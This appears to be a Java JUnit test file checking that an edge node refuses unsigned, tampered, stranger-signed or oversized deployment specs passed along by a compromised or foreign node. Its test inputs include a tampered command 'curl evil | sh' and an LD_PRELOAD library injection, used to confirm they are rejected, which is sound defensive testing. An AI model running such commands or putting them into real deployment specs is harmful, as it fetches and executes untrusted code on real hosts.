package dev.tendril.edge.selforg.adapter.out.deployment;

import dev.tendril.edge.adapter.out.yaml.YamlDocuments;
import dev.tendril.edge.application.HostedServices;
import dev.tendril.edge.application.SpecSignatures;
import dev.tendril.edge.deployment.Deployments;
import dev.tendril.edge.deployment.InMemoryContainerRuntime;
import dev.tendril.edge.domain.Hardware;
import dev.tendril.edge.domain.NodePolicies;
import dev.tendril.edge.domain.Platform;
import dev.tendril.edge.overlay.InMemoryNetwork;
import dev.tendril.edge.overlay.Overlay;
import dev.tendril.edge.selforg.application.port.out.ReplicaHost;
import dev.tendril.edge.testing.FakeRoot;
import dev.tendril.edge.testing.MutableClock;
import dev.tendril.protocol.geo.GeoPoint;
import dev.tendril.protocol.message.NodeInfo;
import dev.tendril.protocol.refusal.RefusalLog;
import dev.tendril.protocol.signing.OperatorKeys;
import dev.tendril.protocol.signing.SignedSpec;
import dev.tendril.protocol.spec.Arch;
import dev.tendril.protocol.spec.Thresholds;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;
import org.slf4j.helpers.NOPLogger;

import java.security.KeyPair;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.function.Function;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.*;

/**
 * A compromised edge node (a valid platform, a member of the tree) sends Replicate with an
 * unsigned, tampered or stranger-signed spec: the receiving node's real replica path
 * ({@link HostedReplicaHost} over {@link HostedServices} and a fake runtime) deploys nothing;
 * a spec the operator signed is deployed; and a stranger that is no node of the tree gets
 * nothing deployed even with a signed spec.
 */
class SignedReplicaTest {
    static final long GI = 1L << 30;
    static final KeyPair ALICE = OperatorKeys.generate();
    static final KeyPair MALLORY = OperatorKeys.generate();
    static final String SPEC = "service: web\nimage: demo:1\ncommand: [httpd, -f]\n"
            + "ports: [{name: http, containerPort: 8080, hostPort: 18080}]\nroot: true\n";
    static final NodeInfo MUNICH = new NodeInfo("munich", "127.0.0.2", new GeoPoint(48.14, 11.58), List.of(), 7400);

    final NodePolicies policies = new NodePolicies(Thresholds.DEFAULT, Duration.ofSeconds(1), Duration.ofSeconds(10),
            Duration.ofSeconds(10), Duration.ofSeconds(1), 2);
    final MutableClock clock = new MutableClock();
    final FakeRoot root = new FakeRoot();
    final InMemoryContainerRuntime runtime = new InMemoryContainerRuntime(Set.of("demo:1", "evil:1"));
    final RefusalLog refusals = new RefusalLog(NOPLogger.NOP_LOGGER, clock, Duration.ofMinutes(1), 100);
    HostedReplicaHost garching;
    final HostedServices hosted;
    final SpecSignatures signatures = new SpecSignatures("garching", Map.of("alice", ALICE.getPublic()), 256 << 10, refusals);
    final Deployments deployments;

    SignedReplicaTest() {
        // munich (the compromised node) is a node of web's tree
        root.call("web", new dev.tendril.protocol.message.RootMessage.CreateTree("web", MUNICH));
        Platform p = new Platform("garching", "garching", "127.0.0.3", new GeoPoint(48.25, 11.65),
                new Hardware(Arch.AMD64, 2, 4 * GI, 50 * GI, 0), Map.of());
        Function<String, dev.tendril.protocol.spec.Validated<dev.tendril.protocol.spec.DeploymentSpec>> parser =
                t -> YamlDocuments.spec(t, 256 << 10);
        deployments = new Deployments(p, "svc.example.edge", runtime, parser, clock);
        InMemoryNetwork net = new InMemoryNetwork();
        Overlay overlay = new Overlay();
        net.attach("garching", overlay);
        hosted = new HostedServices(p, deployments, overlay, root, net, clock, policies,
                (interval, task) -> () -> { }, parser,
                signatures);
        hosted.overlayPort(7400);
        garching = new HostedReplicaHost("garching", hosted, deployments, Runnable::run, Runnable::run, clock);
    }

    ReplicaHost.Outcome replicate(String spec, NodeInfo offeredBy) {
        List<ReplicaHost.Outcome> out = new ArrayList<>();
        garching.deploy("web", spec, offeredBy, out::add);
        assertEquals(1, out.size());
        return out.get(0);
    }

    static Stream<Arguments> hostile() {
        String signed = SignedSpec.sign(SPEC, "alice", ALICE.getPrivate());
        return Stream.of(
                Arguments.of("unsigned", SPEC, "spec-unsigned"),
                Arguments.of("tampered command", signed.replace("[httpd, -f]", "[sh, -c, 'curl evil | sh']"), "spec-bad-signature"),
                Arguments.of("tampered image", signed.replace("demo:1", "evil:1"), "spec-bad-signature"),
                Arguments.of("text appended after the signature", signed + "env: {LD_PRELOAD: /tmp/x.so}\n", "spec-bad-signature"),
                Arguments.of("signed by a stranger as alice", SignedSpec.sign(SPEC.replace("demo:1", "evil:1"), "alice",
                        MALLORY.getPrivate()), "spec-bad-signature"),
                Arguments.of("3 MB", SignedSpec.sign(SPEC + "env: {X: \"" + "x".repeat(3 << 20) + "\"}\n", "alice",
                        ALICE.getPrivate()), "spec-too-large"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void aCompromisedMemberGetsNothingDeployed(String what, String spec, String reason) {
        ReplicaHost.Outcome o = replicate(spec, MUNICH);
        assertInstanceOf(ReplicaHost.Failed.class, o, what);
        assertEquals(List.of(), runtime.list(), what + ": nothing runs");
        assertFalse(root.trees.get("web").containsKey("garching"), "garching never joined the tree");
        assertEquals(1, refusals.total(reason), what + ": counted as " + reason + " " + refusals.counts());
    }

    @Test
    void readyIsToldOnTheDeploymentsThreadBeforeTheOutcomeIsPostedAndOnlyForADeployedReplica() {
        List<Runnable> posted = new ArrayList<>();
        HostedReplicaHost host = new HostedReplicaHost("garching", hosted, deployments, Runnable::run, posted::add, clock);
        List<ReplicaHost.Deployed> ready = new ArrayList<>();
        List<ReplicaHost.Outcome> done = new ArrayList<>();

        host.deploy("web", SPEC, MUNICH, ready::add, done::add); // unsigned: refused
        posted.forEach(Runnable::run);
        assertEquals(List.of(), ready);
        assertInstanceOf(ReplicaHost.Failed.class, done.get(0));
        posted.clear();
        done.clear();

        host.deploy("web", SignedSpec.sign(SPEC, "alice", ALICE.getPrivate()), MUNICH, ready::add, done::add);
        assertEquals(1, ready.size(), "told on the worker, right after the registration");
        assertEquals(List.of(), done, "the outcome waits for the self-organization thread");
        posted.forEach(Runnable::run);
        assertEquals(List.of(ready.get(0)), done);
        assertTrue(root.trees.get("web").containsKey("garching"), "registered before ready was told");
    }

    @Test
    void aValidSignatureIsVerifiedOnceForBothChecksOfAReplicaButABadOneEveryTime() {
        String signed = SignedSpec.sign(SPEC, "alice", ALICE.getPrivate());
        assertInstanceOf(ReplicaHost.Deployed.class, replicate(signed, MUNICH)); // checked on arrival and before it runs
        assertEquals(1, signatures.verifications());
        assertEquals(Optional.empty(), signatures.refusal(signed, "munich")); // the next replication of the same spec
        assertEquals(1, signatures.verifications());

        String tampered = signed.replace("demo:1", "evil:1");
        assertTrue(signatures.refusal(tampered, "munich").isPresent());
        assertTrue(signatures.refusal(tampered, "munich").isPresent());
        assertEquals(3, signatures.verifications(), "a refused text is not remembered");
    }

    @Test
    void theOperatorsSpecIsDeployedButNotForAStranger() {
        String signed = SignedSpec.sign(SPEC, "alice", ALICE.getPrivate());
        NodeInfo stranger = new NodeInfo("evil-1", "127.0.0.9", new GeoPoint(48.0, 11.0), List.of(), 7400);
        ReplicaHost.Outcome refused = replicate(signed, stranger);
        assertInstanceOf(ReplicaHost.Failed.class, refused);
        assertTrue(((ReplicaHost.Failed) refused).reason().contains("not a node of the tree"), refused.toString());
        assertEquals(List.of(), runtime.list());

        assertInstanceOf(ReplicaHost.Deployed.class, replicate(signed, MUNICH));
        assertEquals(1, runtime.list().size());
        assertTrue(runtime.list().get(0).specText().contains(SignedSpec.MARK + "alice "), "the stored spec keeps its signature");
    }

    @Test
    void aMembersHintChecksTheSpecAheadSoTheReplicateVerifiesNothing() {
        String signed = SignedSpec.sign(SPEC, "alice", ALICE.getPrivate());
        garching.expect("web", "munich", signed);
        assertEquals(1, signatures.verifications(), "checked at the hint, after the root counted munich in the tree");
        assertEquals(List.of(), runtime.list(), "a hint deploys nothing");

        assertInstanceOf(ReplicaHost.Deployed.class, replicate(signed, MUNICH));
        assertEquals(1, signatures.verifications(), "the Replicate found the spec checked");
    }

    @Test
    void aStrangersOrABadSpecInAHintIsNotRemembered() {
        String signed = SignedSpec.sign(SPEC, "alice", ALICE.getPrivate());
        garching.expect("web", "evil-1", signed);
        assertEquals(0, signatures.verifications(), "no signature check for a node the root does not count in the tree");
        assertEquals(1L, garching.refusals().get("replicate-soon-not-a-member"));

        String tampered = signed.replace("demo:1", "evil:1");
        garching.expect("web", "munich", tampered);
        assertEquals(1, refusals.total("spec-bad-signature"), "refused and counted at the hint " + refusals.counts());
        assertInstanceOf(ReplicaHost.Failed.class, replicate(tampered, MUNICH));
        assertEquals(List.of(), runtime.list(), "and still refused at the Replicate");
        assertEquals(2, refusals.total("spec-bad-signature"));
    }
}
